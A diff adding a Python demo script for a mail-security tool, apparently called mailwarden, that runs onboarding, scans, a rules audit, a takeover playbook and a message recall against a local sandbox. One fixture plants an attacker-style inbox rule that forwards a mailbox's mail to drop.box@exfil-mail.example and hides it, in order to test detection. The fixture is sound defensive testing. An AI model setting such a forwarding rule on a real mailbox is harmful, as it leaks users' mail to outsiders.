@@ -1,0 +1,349 @@
+"""The one-machine demo: everything mailwarden needs, started locally, and a tour of the flows.
+
+    mailwarden demo [--exit]
+
+It starts a local Prefect server (SQLite under the data directory), the sandbox tenant over TLS
+with two customer tenants (one global, one US government GCC High), the consent callback and a
+process serving every deployment. Then it plays the operator: onboards both tenants (following
+each consent link as the customer's admin would), reconciles licences, scans with a report-only
+policy and then remediates, audits inbox rules (a planted malicious rule starts the takeover
+playbook through its event trigger, auto-approved in demo mode), recalls a message, and prints
+where to look in the Prefect UI. It keeps serving until Ctrl-C (or stops at once with --exit).
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+
+PREFECT_PORT = int(os.environ.get("MAILWARDEN_PREFECT_PORT", "4200"))
+CONNECTION_VARIABLE = "mailwarden-sandbox-connection"
+
+
+def say(message: str) -> None:
+    print(f"[mailwarden] {message}", flush=True)
+
+
+def prefect_env(data_dir: Path) -> dict[str, str]:
+    """Environment pointing Prefect at the local server, its home under the data directory."""
+    env = dict(os.environ)
+    env.update(
+        {
+            "PREFECT_HOME": str((data_dir / "prefect").resolve()),
+            "PREFECT_API_URL": f"http://127.0.0.1:{PREFECT_PORT}/api",
+            "PREFECT_SERVER_ANALYTICS_ENABLED": "false",
+            "PREFECT_UI_URL": f"http://127.0.0.1:{PREFECT_PORT}",
+            "PREFECT_LOGGING_LEVEL": env.get("PREFECT_LOGGING_LEVEL", "INFO"),
+            "MAILWARDEN_DATA_DIR": str(data_dir.resolve()),
+        }
+    )
+    return env
+
+
+@contextlib.contextmanager
+def background(cmd: list[str], env: dict[str, str], log_file: Path) -> Iterator[subprocess.Popen[bytes]]:
+    """Run a child process in its own process group; stop the whole group on exit."""
+    log_file.parent.mkdir(parents=True, exist_ok=True)
+    with open(log_file, "ab") as out:
+        proc = subprocess.Popen(  # noqa: S603 - our own interpreter and arguments
+            cmd, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True
+        )
+    try:
+        yield proc
+    finally:
+        if proc.poll() is None:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(proc.pid, signal.SIGTERM)
+            try:
+                proc.wait(timeout=20)
+            except subprocess.TimeoutExpired:
+                with contextlib.suppress(ProcessLookupError):
+                    os.killpg(proc.pid, signal.SIGKILL)
+                proc.wait()
+
+
+def wait_for_prefect(timeout: float = 180.0) -> None:
+    url = f"http://127.0.0.1:{PREFECT_PORT}/api/health"
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        with contextlib.suppress(httpx.HTTPError):
+            if httpx.get(url, timeout=2).status_code == 200:
+                return
+        time.sleep(0.5)
+    raise RuntimeError(f"the Prefect server did not answer on {url} within {timeout:.0f} s")
+
+
+def wait_for_deployments(names: list[str], timeout: float = 180.0) -> None:
+    from prefect.client.orchestration import get_client
+
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        with get_client(sync_client=True) as client:
+            have = {f"{d.name}" for d in client.read_deployments()}
+        if set(names) <= have:
+            return
+        time.sleep(1)
+    raise RuntimeError("the deployments did not appear; see .data/logs/serve.log")
+
+
+class Operator:
+    """Drives the flows through the Prefect API, as an operator or an automation would."""
+
+    def __init__(self, env: Any) -> None:
+        self.env = env  # EmbeddedSandbox
+        self.runs: list[tuple[str, Any]] = []
+
+    def start(self, deployment: str, parameters: dict[str, Any]) -> Any:
+        from prefect.deployments import run_deployment
+
+        run = run_deployment(f"{deployment}/{deployment}", parameters=parameters, timeout=0)
+        say(f"started {deployment} ({run.name})")
+        return run
+
+    def wait(self, run: Any, label: str, timeout: float = 900.0) -> Any:
+        from prefect.client.orchestration import get_client
+
+        deadline = time.monotonic() + timeout
+        with get_client(sync_client=True) as client:
+            while time.monotonic() < deadline:
+                run = client.read_flow_run(run.id)
+                if run.state and run.state.is_final():
+                    break
+                time.sleep(1)
+        state = run.state.name if run.state else "unknown"
+        self.runs.append((label, run))
+        say(f"{label}: {state}")
+        return run
+
+    def run(self, deployment: str, parameters: dict[str, Any], label: str | None = None) -> Any:
+        return self.wait(self.start(deployment, parameters), label or deployment)
+
+    def onboard(self, domain: str, cloud: str) -> Any:
+        """Start onboarding and grant consent in the sandbox as the tenant's admin would."""
+        from prefect.client.orchestration import get_client
+        from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId
+
+        run = self.start(
+            "onboard-tenant",
+            {
+                "tenant": domain,
+                "cloud": cloud,
+                "tier": "advanced",
+                "apps": {"connection_variable": CONNECTION_VARIABLE},
+                "readiness": {"limit_seconds": 120, "initial_delay": 1, "max_delay": 5},
+            },
+        )
+        followed: set[str] = set()
+        deadline = time.monotonic() + 300
+        with get_client(sync_client=True) as client:
+            while time.monotonic() < deadline:
+                current = client.read_flow_run(run.id)
+                if current.state and current.state.is_final():
+                    break
+                found = client.read_artifacts(
+                    artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[run.id]))
+                )
+                for artifact in found:
+                    if artifact.key and artifact.key.startswith("consent-url") and str(artifact.id) not in followed:
+                        match = re.search(r"\((https://[^)\s]+)\)", str(artifact.data))
+                        if match:
+                            followed.add(str(artifact.id))
+                            self.admin_consents(match.group(1))
+                time.sleep(1)
+        return self.wait(run, f"onboard {domain} ({cloud})")
+
+    def admin_consents(self, url: str) -> None:
+        """The admin opens the consent link and approves; the sandbox redirects to the callback."""
+        with httpx.Client(verify=self.env.ca_file, follow_redirects=True, timeout=60) as http:
+            reply = http.get(url)
+        say(f"admin consent answered: {reply.status_code} {reply.url.path}")
+
+
+def tour(env: Any, tenants: list[tuple[Any, Any]]) -> Operator:
+    """The demo's flows, in the order an operator would run them."""
+    op = Operator(env)
+    for block, _ in tenants:
+        op.onboard(block.primary_domain, block.cloud)
+    for block, _ in tenants:
+        op.run("reconcile-licenses", {"tenant": block.primary_domain}, f"reconcile {block.primary_domain}")
+    block, state = tenants[0]
+    domain = block.primary_domain
+    op.run("historic-scan", {"tenant": domain}, "historic scan, report only")
+    op.run(
+        "historic-scan",
+        {"tenant": domain, "policy": {"actions": {"malicious": "quarantine", "suspicious": "move_to_junk"}}},
+        "historic scan, remediate",
+    )
+    victim = _plant_malicious_rule(env, state)
+    op.run("rules-audit", {"tenant": domain}, "rules audit")
+    playbook = _wait_for_triggered_run("takeover-response", timeout=180)
+    if playbook is not None:
+        op.wait(playbook, f"takeover response for {victim} (started by the rule event)")
+    else:
+        say("the takeover playbook did not start from the event within 3 minutes")
+    fixture = _recall_fixture(env, state)
+    if fixture:
+        op.run(
+            "recall-message",
+            {"tenant": domain, "sender": fixture["sender"], "internet_message_id": fixture["internet_message_id"],
+             "action": "quarantine", "approval": "auto"},
+            "recall a message",
+        )
+    return op
+
+
+def _plant_malicious_rule(env: Any, state: Any) -> str:
+    """An attacker's rule: forward everything outside and hide it in RSS Feeds."""
+    user = next(
+        u for u in state.users.values()
+        if u.get("accountEnabled") and u.get("userType") == "Member" and u["id"] in state.mailboxes
+    )
+    env.sandbox.inject_rule(
+        state.id,
+        user["id"],
+        {
+            "displayName": ".",
+            "sequence": 1,
+            "isEnabled": True,
+            "conditions": {},
+            "actions": {"forwardTo": [{"emailAddress": {"address": "drop.box@exfil-mail.example"}}],
+                        "markAsRead": True, "stopProcessingRules": True},
+        },
+    )
+    say(f"planted a malicious inbox rule in {user['userPrincipalName']}")
+    return str(user["userPrincipalName"])
+
+
+def _recall_fixture(env: Any, state: Any) -> dict[str, Any] | None:
+    truth = env.sandbox.ground_truth(state.id)
+    fixtures = getattr(truth, "recall_fixtures", None) or []
+    if not fixtures:
+        return None
+    first = fixtures[0]
+    return {"sender": first.get("sender_address") or first.get("sender"),
+            "internet_message_id": first.get("internet_message_id")}
+
+
+def _wait_for_triggered_run(deployment: str, timeout: float) -> Any:
+    from prefect.client.orchestration import get_client
+    from prefect.client.schemas.filters import DeploymentFilter, DeploymentFilterName
+
+    deadline = time.monotonic() + timeout
+    with get_client(sync_client=True) as client:
+        while time.monotonic() < deadline:
+            runs = client.read_flow_runs(
+                deployment_filter=DeploymentFilter(name=DeploymentFilterName(any_=[deployment]))
+            )
+            if runs:
+                return runs[0]
+            time.sleep(1)
+    return None
+
+
+def summary(op: Operator) -> None:
+    ui = f"http://127.0.0.1:{PREFECT_PORT}"
+    say("summary")
+    for label, run in op.runs:
+        state = run.state.name if run.state else "unknown"
+        print(f"  {state:<10} {label:<60} {ui}/runs/flow-run/{run.id}")
+    print(f"\n  Prefect UI:   {ui}  (Deployments, Runs, Artifacts, Blocks)")
+    print(f"  Artifacts:    {ui}/artifacts  (consent links, readiness, licence counts, scan summaries, playbooks)")
+    print("  Audit log:    the remediation_actions table of .data/mailwarden.sqlite", flush=True)
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description="run the mailwarden demo against the sandbox tenant")
+    parser.add_argument("--exit", action="store_true", help="stop everything once the demo has run")
+    parser.add_argument("--data-dir", default=os.environ.get("MAILWARDEN_DATA_DIR", ".data"))
+    parser.add_argument("--users", type=int, default=40, help="users per sandbox tenant")
+    args = parser.parse_args(argv)
+
+    data_dir = Path(args.data_dir).resolve()
+    data_dir.mkdir(parents=True, exist_ok=True)
+    env_vars = prefect_env(data_dir)
+    os.environ.update(env_vars)
+    logs = data_dir / "logs"
+
+    from mailwarden.settings import get_settings
+
+    get_settings.cache_clear()
+    settings = get_settings()
+    with contextlib.ExitStack() as stack:
+        say(f"starting the Prefect server on http://127.0.0.1:{PREFECT_PORT} (log: {logs / 'prefect-server.log'})")
+        stack.enter_context(
+            background(
+                [sys.executable, "-m", "prefect", "server", "start",
+                 "--host", "127.0.0.1", "--port", str(PREFECT_PORT)],
+                env_vars, logs / "prefect-server.log",
+            )
+        )
+        wait_for_prefect()
+        sandbox_env, tenants = _start_sandbox(stack, data_dir, settings, args.users)
+        _start_callback(stack, settings)
+        _save_connection(sandbox_env)
+        say("serving every deployment (log: .data/logs/serve.log)")
+        stack.enter_context(
+            background([sys.executable, "-m", "deployments.serve", "--demo"], env_vars, logs / "serve.log")
+        )
+        from deployments.catalog import CATALOG
+
+        wait_for_deployments([item.name for item in CATALOG])
+        try:
+            op = tour(sandbox_env, tenants)
+            summary(op)
+            if not args.exit:
+                say("serving until Ctrl-C")
+                while True:
+                    time.sleep(3600)
+        except KeyboardInterrupt:
+            say("stopping")
+    failed = [label for label, run in locals().get("op", Operator(None)).runs
+              if not (run.state and run.state.is_completed())]
+    return 1 if failed else 0
+
+
+def _start_sandbox(stack: contextlib.ExitStack, data_dir: Path, settings: Any, users: int) -> tuple[Any, Any]:
+    from deployments.embedded import EmbeddedSandbox
+
+    redirect = f"http://{settings.callback_host}:{settings.callback_port}/consent/callback"
+    env = EmbeddedSandbox(data_dir, port=settings.sandbox_port, profile="fast", redirect_uri=redirect)
+    stack.enter_context(env)
+    tenants = [
+        env.add_tenant(seed=1, users=users, cloud="global", consent=None),
+        env.add_tenant(seed=2, users=max(10, users // 2), cloud="usgov-gcchigh", consent=None),
+    ]
+    say(f"sandbox tenant server on {env.url}: " + ", ".join(f"{b.primary_domain} ({b.cloud})" for b, _ in tenants))
+    return env, tenants
+
+
+def _start_callback(stack: contextlib.ExitStack, settings: Any) -> None:
+    from deployments.callback import CallbackServer
+
+    server = CallbackServer(host=settings.callback_host, port=settings.callback_port)
+    server.start()
+    stack.callback(server.stop)
+    say(f"consent callback on http://{settings.callback_host}:{settings.callback_port}/consent/callback")
+
+
+def _save_connection(env: Any) -> None:
+    """The app blocks and the sandbox's host overrides, where onboarding looks for them."""
+    from prefect.variables import Variable
+
+    env.basic_app.save("mailwarden-basic", overwrite=True)
+    env.advanced_app.save("mailwarden-advanced", overwrite=True)
+    Variable.set(CONNECTION_VARIABLE, env.overrides(), overwrite=True)
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
